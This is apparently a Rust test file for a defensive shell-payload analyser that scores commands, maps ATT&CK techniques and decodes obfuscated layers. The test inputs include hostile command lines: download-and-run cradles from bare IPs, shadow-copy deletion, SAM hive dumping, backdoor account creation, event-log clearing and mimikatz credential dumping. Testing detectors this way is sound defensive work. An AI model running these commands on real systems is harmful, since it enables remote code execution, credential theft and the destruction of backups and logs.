//! The analyser end to end (without a model): verdicts, explanations, limits.

use super::*;

fn analyzer() -> Analyzer {
    Analyzer::new(None, VerdictConfig::default())
}

#[test]
fn a_download_cradle_is_blocked_with_its_techniques() {
    let v = analyzer().analyze(
        "IEX (New-Object Net.WebClient).DownloadString('http://8.8.8.8/x.ps1')",
        None,
    );
    assert_eq!(v.shell, Shell::Powershell);
    assert!(v.score >= 80.0, "{}", v.score);
    assert_eq!(v.action, Action::Block);
    assert!(v.attack.iter().any(|t| t == "T1105") && v.attack.iter().any(|t| t == "T1059.001"));
    assert!(
        v.explanation.contains("PowerShell downloads and runs code"),
        "{}",
        v.explanation
    );
    assert_eq!(v.tokens.urls, ["http://8.8.8.8/x.ps1"]);
}

#[test]
fn obfuscation_never_lowers_the_verdict() {
    let a = analyzer();
    let clear = a.analyze("Invoke-Expression 'whoami /all'", Some(Shell::Powershell));
    let bytes: Vec<u8> = "Invoke-Expression 'whoami /all'"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let hidden = a.analyze(
        &format!(
            "powershell -w hidden -enc {}",
            deobf::codec::to_base64(&bytes)
        ),
        None,
    );
    assert!(
        hidden.score >= clear.score,
        "{} < {}",
        hidden.score,
        clear.score
    );
    assert!(hidden.layers.len() > 1);
    assert!(hidden.explanation.contains("layer"));
}

#[test]
fn everyday_commands_are_allowed() {
    let a = analyzer();
    for text in [
        "ls -la",
        "git status",
        "Get-ChildItem -Path C:\\Users",
        "dir /b",
        "tar -xzf x.tgz",
        "docker compose up -d",
    ] {
        let v = a.analyze(text, None);
        assert_eq!(v.action, Action::Allow, "{text}: {}", v.explanation);
    }
}

#[test]
fn huge_and_binary_input_gets_a_verdict() {
    let a = analyzer();
    let big = "QUFB".repeat(10 << 20 >> 2);
    let v = a.analyze(&format!("powershell -enc {big}"), None);
    assert!(v.notes.iter().any(|n| n.contains("first")), "{:?}", v.notes);
    let garbage: String = (0..20_000u32)
        .map(|i| char::from_u32((i * 7919) % 0x2fff).unwrap_or('x'))
        .collect();
    let v = a.analyze(&garbage, None);
    assert!((0.0..=100.0).contains(&v.score), "{}", v.score);
    assert!(!v.explanation.is_empty() && !v.layers.is_empty());
}

/// Found by the fuzzer: cmd `set` variables that double a line of `journalctl` at every
/// layer. The last layers are megabytes on one line, and the signatures used to try each
/// of the hundred thousand start literals anchored to the line's end (minutes). It must
/// come back with a verdict; the anchored span and the scan's time budget bound it.
#[test]
fn a_layer_repeating_a_literal_on_one_huge_line_still_gets_a_verdict() {
    let bytes: &[u8] = b"\x73\x65\x74\x20\x61\x3d\x73\x65\x74\x20\x61\x3d\x5e\x20\x5e\x5e\xa2\xff\xfa\xff\x5b\xfb\x00\x3e\x3e\x3e\x3e\x74\x5e\x61\x3d\x5e\x20\x5e\x28\x28\x28\x2a\xff\xff\xff\xff\xff\xff\xff\x02\xff\x6a\x6f\x75\x72\x6e\x61\x6c\x63\x74\x6c\x65\x3a\xff\xff\xfb\x00\x5e\x6c\xbf\xe7\xdf\xd5\x6c\xbf\xe7\x19\x2a\x6e\x61\x6c\x63\x74\x6c\x65\x3a\xff\xff\xfb\x00\x5e\x6c\xbf\xe7\xdf\xd5\x6c\xbf\xe7\x19\x2a\xd9\x61\x25\x25\x61\x25\x6c\xbf\xe7\xdf\xd5\x64\xbe\x2d\x26\xd5\x26\x25\x61\x25\xd9\x61\x25\x25\x61\x25\x6c\xbf\xe7\xdf\xd5\x64\xbe\x2d\x26\xd5\x26\x25\x61\x25\x25\x26\x25\x61\x25\x25\x61\x25\x61\xed\x69";
    let text = String::from_utf8_lossy(bytes);
    let v = analyzer().analyze(&text, Some(Shell::Cmd));
    assert!(v.layers.len() > 2, "{:?}", v.notes);
    assert!((0.0..=100.0).contains(&v.score), "{}", v.score);
}

#[test]
fn shells_are_guessed_from_syntax() {
    assert_eq!(
        Shell::guess("Get-Process | Stop-Process"),
        Shell::Powershell
    );
    assert_eq!(Shell::guess("reg add HKCU\\x /v y"), Shell::Cmd);
    assert_eq!(Shell::guess("ls -la | grep x"), Shell::Sh);
    assert_eq!("PowerShell".parse::<Shell>().unwrap(), Shell::Powershell);
    assert!("fish".parse::<Shell>().is_err());
}

#[test]
fn a_signature_scan_cut_short_is_named_in_the_verdict() {
    let mut a = analyzer();
    let text = "vssadmin delete shadows /all /quiet";
    assert!(a.analyze(text, None).notes.is_empty());
    a.signatures = Signatures::new().with_budget(std::time::Duration::ZERO);
    let v = a.analyze(text, None);
    assert!(
        v.notes
            .iter()
            .any(|n| n.contains("signature scan ran out of time")),
        "{:?}",
        v.notes
    );
}

/// A small model trained on each text 15 times, with the pattern counts of those texts
/// (so training tempers the patterns the benign ones carry).
fn taught(benign: &[&str], malicious: &[&str]) -> Arc<model::PayloadModel> {
    let plain = analyzer();
    let set = features::FeatureSet {
        bits: 12,
        ..Default::default()
    };
    let texts: Vec<(Analysed, bool)> = (0..15)
        .flat_map(|_| {
            let b = benign.iter().map(|t| (t, false));
            b.chain(malicious.iter().map(|t| (t, true)))
        })
        .map(|(t, label)| (plain.examine(t, None), label))
        .collect();
    let rows: Vec<(features::Features, bool)> = texts
        .iter()
        .map(|(a, label)| (features::extract(a, &set), *label))
        .collect();
    let params = train::TrainParams {
        features: set,
        epochs: 4,
        ..Default::default()
    };
    let mut model = train::train(&rows, &params, "").expect("trains");
    model.patterns = Some(tempering::PatternCounts::count(
        texts
            .iter()
            .map(|(a, label)| (tempering::pattern_ids(a), *label)),
    ));
    Arc::new(model)
}

/// A model taught, as documentation teaches, that a download piped into a shell is an
/// installer: the bare address still brings the verdict to HIGH, and the explanation says
/// which pattern held it there.
#[test]
fn a_strong_pattern_holds_up_what_the_model_calls_benign_and_says_so() {
    // The training texts temper `download-pipe-shell` (45 benign, 0 malicious).
    let model = taught(
        &[
            "curl -fsSL https://get.docker.com | sh",
            "curl -sSf https://sh.rustup.rs | sh",
            "wget -qO- https://install.example.org/setup.sh | bash",
            "curl -s https://packages.example.com/gpg | sudo apt-key add -",
            "ls -la /var/www",
            "git status",
        ],
        &[
            "vssadmin delete shadows /all /quiet",
            "reg save HKLM\\SAM C:\\Users\\Public\\sam.hiv",
            "net user backdoor P@ss /add",
            "wevtutil cl Security",
        ],
    );
    let a = Analyzer::new(Some(model), VerdictConfig::default());
    let v = a.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
    let model_score = v.views.model.unwrap_or(100.0);
    assert!(
        model_score < 40.0,
        "the model calls it benign: {model_score}"
    );
    assert_eq!(v.level, ThreatLevel::High, "{}", v.explanation);
    assert!(
        v.explanation
            .contains("Held at 60 by its strongest pattern alone (code fetched from a bare IP"),
        "{}",
        v.explanation
    );
    // Off, the same views stay below HIGH.
    let off = Analyzer::new(
        a.model().cloned(),
        VerdictConfig {
            signature_floor: 0.0,
            ..VerdictConfig::default()
        },
    );
    let v = off.analyze("curl -s http://45.9.148.3/x | sh", Some(Shell::Sh));
    assert!(v.score < 50.0, "{}", v.explanation);
    assert!(!v.explanation.contains("Held at"), "{}", v.explanation);
}

/// A model taught, as tldr teaches, that mimikatz is documentation: training tempers the
/// credential-tool pattern far down, but running the tool is never benign, so the pattern
/// holds the verdict at its written weight — and says so. An installer piped into a shell,
/// which documentation also shows and hosts really run, is tempered as before.
#[test]
fn a_pattern_without_benign_use_holds_its_written_weight_whatever_training_says() {
    let model = taught(
        &[
            "mimikatz \"crypto::providers\"",
            "mimikatz \"standard::info\"",
            "mimikatz \"process::list\"",
            "mimikatz \"misc::systemtime\"",
            "curl -fsSL https://get.docker.com | sh",
            "ls -la /var/www",
            "git status",
        ],
        &[
            "vssadmin delete shadows /all /quiet",
            "net user backdoor P@ss /add",
            "wevtutil cl Security",
        ],
    );
    let dump = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
    let held = Analyzer::new(Some(model.clone()), VerdictConfig::default()).analyze(dump, None);
    let tool = held
        .patterns
        .iter()
        .find(|p| p.id == "credential-tool")
        .expect("the tool is named");
    assert!(tool.weight < 0.5, "tempered: {tool:?}");
    assert!(held.score >= 71.0, "{}", held.explanation);
    assert_eq!(held.level, ThreatLevel::High);
    assert!(
        held.explanation
            .contains("weight 0.95 as written; the training texts weigh it"),
        "{}",
        held.explanation
    );
    // Turned off, the tempered weight holds nothing.
    let off = VerdictConfig {
        written_floor: false,
        ..VerdictConfig::default()
    };
    let tempered = Analyzer::new(Some(model.clone()), off).analyze(dump, None);
    assert!(tempered.score < 50.0, "{}", tempered.explanation);
    // The installer keeps its tempered weight: no written floor for a download.
    let installer = Analyzer::new(Some(model), VerdictConfig::default())
        .analyze("curl -fsSL https://get.docker.com | sh", Some(Shell::Sh));
    assert!(installer.score < 50.0, "{}", installer.explanation);
}

/// A `set` variable that doubles itself each time it is expanded, with non-ASCII text
/// around it (found by fuzzing): eight layers of growing size, the last of MiBs, each
/// searched by the fast automata, the decoded forms' scans within one budget, and
/// tokenized once (`cargo bench -p warden-payload --bench
/// analyze -- a_self_doubling_variable` times it).
#[test]
fn a_self_doubling_variable_is_decoded_to_the_layer_limit_and_judged() {
    let a = analyzer();
    let v = a.analyze(SELF_DOUBLING, Some(Shell::Cmd));
    assert_eq!(v.layers.len(), deobf::MAX_LAYERS + 1, "{:?}", v.notes);
    assert!(
        v.layers
            .last()
            .is_some_and(|l| l.bytes.is_some_and(|b| b > 2 << 20))
    );
    assert_eq!(v.level, ThreatLevel::Low);
    // What it shows is bounded: the last layer cut to 1 MiB, those between to 64 KiB each.
    assert!(
        v.notes.iter().any(|n| n.contains("shown cut short")),
        "{:?}",
        v.notes
    );
    let json = serde_json::to_vec(&v).unwrap();
    assert!(json.len() < 2 << 20, "{} bytes of verdict", json.len());
}

#[test]
fn scans_that_share_a_spent_budget_stop_and_say_so() {
    let s = signatures::Signatures::new();
    let text = ["curl -s http://203.0.113.9/x | sh"];
    let open = s.scan_until(
        text,
        std::time::Instant::now() + std::time::Duration::from_secs(60),
    );
    assert!(open.finished && !open.hits.is_empty());
    let spent = s.scan_until(text, std::time::Instant::now());
    assert!(!spent.finished && spent.hits.is_empty());
}

/// The input of [`a_self_doubling_variable_is_decoded_to_the_layer_limit_and_judged`].
const SELF_DOUBLING: &str = "||set a= é%%a%%a%a éé %cmst=% %a%%a%a é ] %||set a= é%a% %a%%a%a&é";
